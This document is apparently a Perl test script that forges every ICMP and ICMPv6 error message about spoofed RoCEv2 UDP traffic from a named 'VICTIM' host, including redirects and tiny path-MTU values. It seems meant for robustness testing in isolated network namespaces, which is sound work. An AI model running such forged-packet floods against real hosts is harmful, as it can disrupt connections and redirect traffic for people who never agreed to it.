# Sends every ICMP error message there is, each about a UDP datagram that VICTIM is said to have sent from each
# of its PORTS to port 4791 of PEER. Needs root in its namespace, and no address but its own.
#
#   perl icmp.pl VICTIM PEER PORT...
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 IPPROTO_ICMP);

my ($victim, $peer, @ports) = @ARGV;
my $v6 = $victim =~ /:/;

# Internet checksum (RFC 1071). For ICMPv6 the kernel computes it.
sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', shift;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

# Type, code, and the four bytes after the checksum.
my @kinds;
if ($v6) {
    push @kinds, [1, $_, 0] for 0 .. 7;                     # destination unreachable
    push @kinds, [2, 0, $_] for 1280, 68, 0;                # packet too big
    push @kinds, [3, $_, 0] for 0, 1;                       # time exceeded
    push @kinds, [4, $_, 0] for 0 .. 2;                     # parameter problem
} else {
    push @kinds, [3, $_, 0] for grep { $_ != 4 } 0 .. 15;   # destination unreachable
    push @kinds, [3, 4, $_] for 552, 68, 0;                 # fragmentation needed
    push @kinds, [4, 0, 0];                                 # source quench
    push @kinds, [5, $_, unpack 'N', inet_aton('10.0.0.66')] for 0 .. 3;    # redirect
    push @kinds, [11, $_, 0] for 0, 1;                      # time exceeded
    push @kinds, [12, $_, 0] for 0 .. 2;                    # parameter problem
}

my $to = $v6 ? pack_sockaddr_in6(0, inet_pton(AF_INET6, $victim)) : pack_sockaddr_in(0, inet_aton($victim));
socket my $raw, $v6 ? AF_INET6 : AF_INET, SOCK_RAW, $v6 ? 58 : IPPROTO_ICMP or die "raw socket: $!\n";
my $sent = 0;
for my $port (@ports) {
    # The part of a RoCEv2 packet with 4,096 bytes of payload that routers quote.
    my $udp = pack('nnnn', $port, 4791, 4096 + 24, 0) . pack('CCnNN', 0x07, 0x40, 0xffff, 0, 0) . 'x' x 64;
    my $quoted;
    if ($v6) {
        $quoted = pack('NnCC', 6 << 28, 4096 + 24, 17, 64) . inet_pton(AF_INET6, $victim) . inet_pton(AF_INET6, $peer) . $udp;
    } else {
        my $ip = pack('CCnnnCCn', 0x45, 0, 4096 + 44, 0, 0x4000, 64, 17, 0) . inet_aton($victim) . inet_aton($peer);
        substr $ip, 10, 2, pack 'n', checksum($ip);
        $quoted = $ip . $udp;
    }
    for (@kinds) {
        my ($type, $code, $rest) = @$_;
        my $message = pack('CCnN', $type, $code, 0, $rest) . $quoted;
        substr $message, 2, 2, pack 'n', checksum($message) unless $v6;
        send $raw, $message, 0, $to or die "send: $!\n";
        $sent++;
        select undef, undef, undef, 0.001 if $sent % 16 == 0;
    }
}
print "sent $sent\n";
